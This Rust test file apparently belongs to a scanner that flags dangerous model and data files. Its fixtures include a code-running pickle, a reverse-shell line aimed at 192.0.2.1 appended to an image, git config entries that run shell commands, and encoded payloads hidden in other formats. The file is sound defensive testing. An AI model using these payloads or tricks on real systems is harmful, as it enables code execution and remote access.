//! Formats that are not pickles: what each can carry, beside an honest file of its kind.

use bartizan_artifact::{Limits, Report, Verdict, model};

const PICKLE: &[u8] = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.";

fn scan(name: &str, bytes: &[u8]) -> Report {
    model(name, &bytes.to_vec(), &Limits::default())
}

fn check(name: &str, bytes: &[u8], verdict: Verdict) {
    let report = scan(name, bytes);
    assert_eq!(report.verdict, verdict, "{name}: {:#?}", report.findings);
}

/// A model of TFLite with one custom operator.
fn tflite(operator: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    bytes.extend(16_u32.to_le_bytes());
    bytes.extend(b"TFL3");
    // Where the fields of the model lie, the model, its list, where those of the operator lie, the operator, its name.
    bytes.extend([8, 0, 8, 0, 0, 0, 4, 0]);
    bytes.extend([8, 0, 0, 0, 4, 0, 0, 0]);
    bytes.extend([1, 0, 0, 0, 12, 0, 0, 0]);
    bytes.extend([8, 0, 8, 0, 0, 0, 4, 0]);
    bytes.extend([8, 0, 0, 0, 4, 0, 0, 0]);
    bytes.extend((operator.len() as u32).to_le_bytes());
    bytes.extend(operator.as_bytes());
    bytes.push(0);
    bytes
}

#[test]
fn operators_of_tflite() {
    check(
        "x.tflite",
        &tflite("TFLite_Detection_PostProcess"),
        Verdict::Clean,
    );
    check("x.tflite", &tflite("FlexAddV2"), Verdict::Clean);
    check("x.tflite", &tflite("Somebodys"), Verdict::Unknown);
    check("x.tflite", &tflite("FlexPyFunc"), Verdict::Malicious);
    check("x.tflite", &tflite("FlexShellExecute"), Verdict::Suspicious);
    check("x.tflite", &tflite("FlexSomebodys"), Verdict::Unknown);
    // No operator uses them, so nothing says which file it is.
    for operator in [
        "FlexSave",
        "FlexRestoreV2",
        "FlexPrintV2",
        "FlexDecodeProtoV2",
        "FlexRemoteCall",
    ] {
        check("x.tflite", &tflite(operator), Verdict::Suspicious);
    }
    check(
        "x.tflite",
        &[b"\x1c\0\0\0TFL3", &[0; 60][..]].concat(),
        Verdict::Unknown,
    );
}

/// A table of as many fields as there are marks, where only the marked ones are there; its place.
fn table(bytes: &mut Vec<u8>, fields: &[bool]) -> usize {
    bytes.resize(bytes.len().next_multiple_of(4), 0);
    let listed = bytes.len();
    bytes.extend((4 + 2 * fields.len() as u16).to_le_bytes());
    bytes.extend((4 + 4 * fields.len() as u16).to_le_bytes());
    for (at, there) in fields.iter().enumerate() {
        let offset = if *there { 4 + 4 * at as u16 } else { 0 };
        bytes.extend(offset.to_le_bytes());
    }
    bytes.resize(bytes.len().next_multiple_of(4), 0);
    let at = bytes.len();
    bytes.extend(((at - listed) as u32).to_le_bytes());
    bytes.resize(at + 4 + 4 * fields.len(), 0);
    at
}

/// A list of so many numbers or references, all of them nought.
fn list(bytes: &mut Vec<u8>, count: usize) -> usize {
    bytes.resize(bytes.len().next_multiple_of(4), 0);
    let at = bytes.len();
    bytes.extend((count as u32).to_le_bytes());
    bytes.resize(at + 4 + 4 * count, 0);
    at
}

fn set(bytes: &mut [u8], at: usize, value: usize) {
    bytes[at..at + 4].copy_from_slice(&(value as u32).to_le_bytes());
}

/// Makes the field or item at `at` refer to what comes next.
fn refer(bytes: &mut [u8], at: usize, to: usize) {
    set(bytes, at, to - at);
}

/// A model of TFLite in which an operator is given one text: an argument of the graph, or a constant that is this.
fn given(operator: &str, constant: Option<&str>) -> Vec<u8> {
    let field = |table: usize, number: usize| table + 4 + 4 * number;
    let mut bytes = b"\0\0\0\0TFL3".to_vec();
    let model = table(&mut bytes, &[false, true, true, false, true]);
    set(&mut bytes, 0, model);
    for (number, count) in [(1, 1), (2, 1), (4, 2)] {
        let items = list(&mut bytes, count);
        refer(&mut bytes, field(model, number), items);
        for item in 0..count {
            let held = match number {
                1 => table(&mut bytes, &[false, true]),
                2 => table(&mut bytes, &[true, false, false, true]),
                _ => table(&mut bytes, &[item > 0]),
            };
            refer(&mut bytes, items + 4 + 4 * item, held);
            if number == 1 {
                let name = list(&mut bytes, 0);
                set(&mut bytes, name, operator.len());
                bytes.extend([operator.as_bytes(), b"\0"].concat());
                refer(&mut bytes, field(held, 1), name);
            } else if number == 2 {
                let tensors = list(&mut bytes, 1);
                refer(&mut bytes, field(held, 0), tensors);
                let tensor = table(&mut bytes, &[false, true, true]);
                refer(&mut bytes, tensors + 4, tensor);
                set(&mut bytes, field(tensor, 1), 5);
                set(&mut bytes, field(tensor, 2), usize::from(constant.is_some()));
                let nodes = list(&mut bytes, 1);
                refer(&mut bytes, field(held, 3), nodes);
                let node = table(&mut bytes, &[true, true]);
                refer(&mut bytes, nodes + 4, node);
                let inputs = list(&mut bytes, 1);
                refer(&mut bytes, field(node, 1), inputs);
            } else if item > 0 {
                let text = constant.unwrap_or_default();
                let length = text.len() as u32;
                let data = [
                    &1_u32.to_le_bytes()[..],
                    &12_u32.to_le_bytes(),
                    &(12 + length).to_le_bytes(),
                    text.as_bytes(),
                ]
                .concat();
                let data_at = list(&mut bytes, 0);
                set(&mut bytes, data_at, data.len());
                bytes.extend(data);
                refer(&mut bytes, field(held, 0), data_at);
            }
        }
    }
    bytes.extend([0; 16]);
    bytes
}

#[test]
fn paths_of_operators_in_tflite() {
    check("x.tflite", &given("FlexSave", None), Verdict::Clean);
    check("x.tflite", &given("FlexAddV2", Some("/tmp/x")), Verdict::Clean);
    check(
        "x.tflite",
        &given("FlexRestoreV2", Some("model")),
        Verdict::Suspicious,
    );
    check("x.tflite", &given("FlexSave", Some("/tmp/x")), Verdict::Malicious);
}

#[test]
fn operators_and_models_that_lie_elsewhere() {
    let field = |number: u8, body: &[u8]| [&[number << 3 | 2, body.len() as u8][..], body].concat();
    let onnx = |operator: &str| [&[8, 8][..], &field(7, &field(1, &field(4, operator.as_bytes())))].concat();
    check("x.onnx", &onnx("Add"), Verdict::Clean);
    check("x.onnx", &onnx("Affine"), Verdict::Clean);
    check("x.onnx", &onnx("Somebodys"), Verdict::Unknown);
    let names = |text: &[u8]| {
        let entry = [field(1, b"names"), field(2, text)].concat();
        [onnx("Add"), field(14, &entry)].concat()
    };
    check("x.onnx", &names(b"{0: 'person (m.)'}"), Verdict::Clean);
    check(
        "x.onnx",
        &names(b"open('/tmp/x','w').write('x')"),
        Verdict::Suspicious,
    );
    let linked = |path: &[u8]| {
        let linked = field(1, &field(1, &field(1, path)));
        let key = [&[0xe2, 0x22, linked.len() as u8][..], &linked].concat();
        [&[8, 4][..], &key].concat()
    };
    check("x.mlmodel", &linked(b"other"), Verdict::Unknown);
    check("x.mlmodel", &linked(b"../other"), Verdict::Suspicious);
    let package = |path: &str| {
        format!(r#"{{"fileFormatVersion": "1.0.0", "itemInfoEntries": {{"a": {{"path": "{path}"}}}}}}"#)
    };
    check(
        "Manifest.json",
        package("com.apple.CoreML/model.mlmodel").as_bytes(),
        Verdict::Clean,
    );
    check(
        "Manifest.json",
        package("../../x").as_bytes(),
        Verdict::Suspicious,
    );
    let symbols = |operator: &str| {
        format!(
            r#"{{"nodes": [{{"op": "_foreach", "subgraphs": [{{"nodes": [{{"op": "{operator}"}}]}}]}}], "arg_nodes": []}}"#
        )
    };
    check(
        "x-symbol.json",
        symbols("FullyConnected").as_bytes(),
        Verdict::Clean,
    );
    check("x-symbol.json", symbols("Custom").as_bytes(), Verdict::Suspicious);
    check("key2row", b"\x80", Verdict::Clean);
}

#[test]
fn programs_of_paddle() {
    let program = |operator: &str| {
        let named = [&[0x1a, operator.len() as u8][..], operator.as_bytes()].concat();
        let operator = [&[0x22, named.len() as u8][..], &named].concat();
        [&[0x0a, operator.len() as u8][..], &operator].concat()
    };
    check("inference.pdmodel", &program("conv2d"), Verdict::Clean);
    check("inference.pdmodel", &program("py_func"), Verdict::Malicious);
    check("inference.pdmodel", b"\x0a\xff", Verdict::Unknown);
}

#[test]
fn what_pictures_and_documents_carry() {
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xaeB`\x82";
    check("x.png", png, Verdict::Clean);
    check("x.png", &[&png[..], b"\n"].concat(), Verdict::Clean);
    for behind in [
        PICKLE,
        b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
    ] {
        let report = scan("x.png", &[&png[..], behind].concat());
        assert!(report.verdict >= Verdict::Suspicious, "{:#?}", report.findings);
    }
    let jpeg = [
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0",
        PICKLE,
        b"\xff\xd9",
    ]
    .concat();
    check("x.jpg", &jpeg, Verdict::Suspicious);
    check(
        "x.jpg",
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9",
        Verdict::Clean,
    );
    check(
        "x.pdf",
        b"%PDF-1.5\n%\xbf\xf7\xa2\xfe\n/OpenAction [2 0 R /Fit]\n",
        Verdict::Clean,
    );
    check(
        "x.pdf",
        b"%PDF-1.5\n/OpenAction << /S /JavaScript /JS (x) >>\n",
        Verdict::Suspicious,
    );
}

#[test]
fn types_of_arrow_that_unpickle_themselves() {
    check(
        "x.parquet",
        &[b"PAR1", &[0; 64][..], b"PAR1"].concat(),
        Verdict::Clean,
    );
    check(
        "x.feather",
        &[b"ARROW1\0\0", &[0; 64][..], b"arrow.py_extension_type", b"ARROW1"].concat(),
        Verdict::Malicious,
    );
    for written in [
        "YXJyb3cucHlfZXh0ZW5zaW9uX3R5cGU=",
        "AGFycm93LnB5X2V4dGVuc2lvbl90eXBl",
        "AABhcnJvdy5weV9leHRlbnNpb25fdHlwZQ==",
    ] {
        check(
            "x.parquet",
            &[b"PAR1", &[0; 64][..], written.as_bytes(), b"PAR1"].concat(),
            Verdict::Malicious,
        );
    }
}

#[test]
fn what_follows_the_tensors_of_gguf() {
    let mut bytes = b"GGUF\x03\0\0\0".to_vec();
    bytes.extend(1_u64.to_le_bytes());
    bytes.extend(0_u64.to_le_bytes());
    bytes.extend(1_u64.to_le_bytes());
    bytes.push(b'w');
    bytes.extend(1_u32.to_le_bytes());
    bytes.extend(8_u64.to_le_bytes());
    bytes.extend(0_u32.to_le_bytes());
    bytes.extend(0_u64.to_le_bytes());
    bytes.resize(bytes.len().next_multiple_of(32) + 32, 0);
    check("x.gguf", &bytes, Verdict::Clean);
    check("x.gguf", &[&bytes[..], PICKLE].concat(), Verdict::Unknown);
}

#[test]
fn programs_whatever_they_are_called() {
    let windows = [b"MZ", &[0; 58][..], &64_u32.to_le_bytes(), b"PE\0\0", &[0; 32]].concat();
    for (name, bytes) in [
        ("x.llamafile", &b"MZqFpD='\n\0\0"[..]),
        ("weights.bin", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
        ("weights.bin", &windows),
        ("x.bin", b"\xca\xfe\xba\xbe\0\0\0\x02\0\0\0\0"),
        ("x.dat", b"\0asm\x01\0\0\0"),
    ] {
        let report = scan(name, bytes);
        assert!(
            report.verdict >= Verdict::Suspicious,
            "{name}: {:#?}",
            report.findings
        );
    }
    check("x.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0", Verdict::Clean);
    check(
        "x.sqlite3",
        b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20",
        Verdict::Clean,
    );
    check("ggml-base.bin", b"lmgg\x10\0\0\0\0\0\0\0", Verdict::Clean);
}

/// A part of a spaCy pipeline: MessagePack without an ending; arrays of objects are pickles in it.
#[test]
fn parts_of_spacy() {
    let honest = b"\x82\xa5nodes\x91\x81\xa5index\x00\xa6params\x91\x81\xa1W\xc4\x04\0\0\x80?";
    check("ner/model", honest, Verdict::Clean);
    let carried = [&b"\x81\xa4data\xc4"[..], &[PICKLE.len() as u8], PICKLE].concat();
    check("ner/model", &carried, Verdict::Malicious);
    check(
        "ner/model",
        &[&honest[..], b"\xc1\xc1"].concat(),
        Verdict::Unknown,
    );
}

/// Broken pickles may be values of msgpack to their last byte; what a name promises is not kept by that.
#[test]
fn a_pickle_that_reads_as_something_else_is_not_clean() {
    let mutated = b"\x97\x05\x95\x04\x00\x00\x00\x0e\x00\x00\x00M.";
    for name in ["345.pkl", "m.pickle", "m.pt", "m.joblib", "m.ckpt"] {
        check(name, mutated, Verdict::Unknown);
    }
    check("vocab/lookups.bin", mutated, Verdict::Clean);
}

#[test]
fn links_and_attributes_that_hdf5_packs_densely() {
    let seed = |bytes: &'static [u8]| bytes.split_first().map_or(&[][..], |(_, rest)| rest);
    let good = seed(include_bytes!("../../../fuzz/corpus/artifact_hdf5/dense.h5"));
    check("x.h5", good, Verdict::Clean);
    let report = scan(
        "x.h5",
        seed(include_bytes!(
            "../../../fuzz/corpus/artifact_hdf5/dense_lambda.h5"
        )),
    );
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.rule.id == "keras/code"),
        "{:#?}",
        report.findings
    );
    let report = scan(
        "x.h5",
        seed(include_bytes!("../../../fuzz/corpus/artifact_hdf5/dense_link.h5")),
    );
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.rule.id == "hdf5/external"),
        "{:#?}",
        report.findings
    );
    // A heap or a tree that is not where it should be is not passed over.
    for mark in [b"FRHP", b"BTHD", b"BTLF", b"FHDB"] {
        let at = good
            .windows(4)
            .position(|part| part == mark)
            .expect("a dense file has one");
        let mut broken = good.to_vec();
        broken[at] = b'X';
        let verdict = scan("x.h5", &broken).verdict;
        // A direct block is read by its place: its own mark says nothing more.
        assert_eq!(verdict > Verdict::Clean, mark != b"FHDB", "{mark:?}");
    }
}

#[test]
fn what_lies_somewhere_in_other_bytes() {
    let old = b"cos\nsystem\n(S'true'\ntR.";
    let graph = tflite("TFLite_Detection_PostProcess");
    let far = vec![0_u8; 33 << 20];
    let gif = [b"GIF89a\x01\0", &far[..]].concat();
    check("x.gif", &gif, Verdict::Clean);
    check("x.gif", &[&gif[..], PICKLE].concat(), Verdict::Suspicious);
    for begin in [
        &b"GIF89a\x01\0"[..],
        b"RIFF\x24\0\0\0WAVE",
        b"SQLite format 3\0",
        b"CBM1\x28\0\0\0",
        &graph[..],
    ] {
        for (behind, verdict) in [
            (&b"\0\0\0"[..], Verdict::Clean),
            (PICKLE, Verdict::Suspicious),
            (&PICKLE[2..], Verdict::Suspicious),
            (old, Verdict::Suspicious),
        ] {
            check("x.dat2", &[begin, &[0; 40], behind, &[0; 9]].concat(), verdict);
        }
    }
    check(
        "x.txt",
        b"{\n}\nan import reads\ncos\nsystem\nthere\n",
        Verdict::Clean,
    );
    let report = scan("x.csv", &[&b"a,b\n1,2\n"[..], PICKLE].concat());
    assert!(report.verdict >= Verdict::Suspicious, "{:#?}", report.findings);
}

/// Bytes as gzip.
fn gzipped(bytes: &[u8]) -> Vec<u8> {
    let mut out = b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec();
    out.extend(fixed(bytes));
    out.extend(crc(bytes).to_le_bytes());
    out.extend((bytes.len() as u32).to_le_bytes());
    out
}

/// A block of deflate with its fixed codes: each letter in eight or nine bits, high end first, and so never on a byte's edge.
fn fixed(bytes: &[u8]) -> Vec<u8> {
    let (mut out, mut held, mut count) = (Vec::new(), 0_u32, 0);
    let mut put = |bits: u32, width: u32, turned: bool| {
        for bit in 0..width {
            let bit = if turned {
                bits >> (width - 1 - bit)
            } else {
                bits >> bit
            } & 1;
            held |= bit << count;
            count += 1;
            if count == 8 {
                out.push(held as u8);
                (held, count) = (0, 0);
            }
        }
    };
    put(0b011, 3, false);
    for byte in bytes {
        match u32::from(*byte) {
            low @ 0..144 => put(0x30 + low, 8, true),
            high => put(0x190 + high - 144, 9, true),
        }
    }
    put(0, 7, true);
    put(0, 7, false);
    out
}

fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0_u32, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| {
            sum >> 1 ^ (0xedb8_8320 & (sum & 1).wrapping_neg())
        })
    })
}

#[test]
fn what_is_packed_somewhere_in_other_bytes() {
    let harmless = b"\x80\x04}(\x8c\x05posixK\x01\x8c\x06systemK\x02u.";
    let base64 = b"gASMBXBvc2l4jAZzeXN0ZW2TjAR0cnVlhVIu";
    let zlib = [&b"\x78\x9c"[..], &fixed(PICKLE), &[0; 4]].concat();
    for begin in [
        &b"GIF89a\x01\0"[..],
        b"SQLite format 3\0",
        b"IxFI",
        b"RIFF\x24\0\0\0WAVE",
    ] {
        for (behind, verdict) in [
            (gzipped(PICKLE), Verdict::Suspicious),
            (zlib.clone(), Verdict::Suspicious),
            (base64.to_vec(), Verdict::Suspicious),
            (b"80048c05706f736978".to_vec(), Verdict::Clean),
            (
                b"80048c05706f7369788c0673797374656d938c047472756585522e".to_vec(),
                Verdict::Suspicious,
            ),
            (
                b"Y3Bvc2l4CnN5c3RlbQooUyd0cnVlJwp0Ui4=".to_vec(),
                Verdict::Suspicious,
            ),
            (
                b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff".to_vec(),
                Verdict::Suspicious,
            ),
            (
                b"gAR9gAR9gAR9gAR9gAR9 80047d80047d80047d80047d MZ\x90".to_vec(),
                Verdict::Clean,
            ),
            (gzipped(&gzipped(PICKLE)), Verdict::Suspicious),
            (gzipped(harmless), Verdict::Clean),
            (gzipped(b"only some words"), Verdict::Clean),
            (b"\x78\x9c\x78\x01\x1f\x8b\x08gASV".to_vec(), Verdict::Clean),
        ] {
            let bytes = [begin, &[0; 40], &behind, &[0; 9]].concat();
            let report = scan("x.dat2", &bytes);
            assert_eq!(report.verdict, verdict, "{bytes:?}: {:#?}", report.findings);
        }
    }
    // A stream that is read once is searched, too, and so is what lies across two of its windows.
    for place in [100, (4 << 20) - 20, (4 << 20) + 70_000] {
        let song = [b"RIFF\x24\0\0\0WAVE", &vec![0; place][..], PICKLE, &[0; 100]].concat();
        let index = [b"IxFI", &vec![0; place][..], &gzipped(PICKLE), &[0; 100]].concat();
        check("x.index.gz", &gzipped(&index), Verdict::Suspicious);
        check("x.wav.gz", &gzipped(&song), Verdict::Suspicious);
    }
    check(
        "x.index.gz",
        &gzipped(&[b"IxFI", &vec![0; 5 << 20][..]].concat()),
        Verdict::Clean,
    );
}

#[test]
fn settings_that_git_runs() {
    check(
        ".git/config",
        b"[core]\n\tfsmonitor = false\n[remote \"origin\"]\n\turl = https://huggingface.co/x/y\n",
        Verdict::Clean,
    );
    check(
        ".git/config",
        b"[core]\n\tsshCommand = /tmp/x.sh\n",
        Verdict::Suspicious,
    );
    check(
        "x/.git/config",
        b"[filter \"lfs\"] smudge = sh -c id\n",
        Verdict::Suspicious,
    );
    check("config", b"[core]\n\tpager = less\n", Verdict::Clean);
}

#[test]
fn what_hubs_import_by_name() {
    check(
        "adapter_config.json",
        br#"{"peft_type": "LORA", "megatron_core": "megatron.core"}"#,
        Verdict::Clean,
    );
    check(
        "adapter_config.json",
        br#"{"peft_type": "LORA", "megatron_core": "os"}"#,
        Verdict::Malicious,
    );
    check(
        "model_index.json",
        br#"{"_class_name": "DiffusionPipeline", "custom_pipeline": "someone/pipe"}"#,
        Verdict::Unknown,
    );
    check(
        "config.json",
        br#"{"model_type": "x", "trust_remote_code": "true"}"#,
        Verdict::Unknown,
    );
    check(
        "config.json",
        br#"{"model_type": "x", "trust_remote_code": "false"}"#,
        Verdict::Clean,
    );
    let model =
        |more: &str| format!("flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n{more}");
    check("MLmodel", model("").as_bytes(), Verdict::Clean);
    check(
        "MLmodel",
        model("    model_code_path: run.py\n").as_bytes(),
        Verdict::Unknown,
    );
}
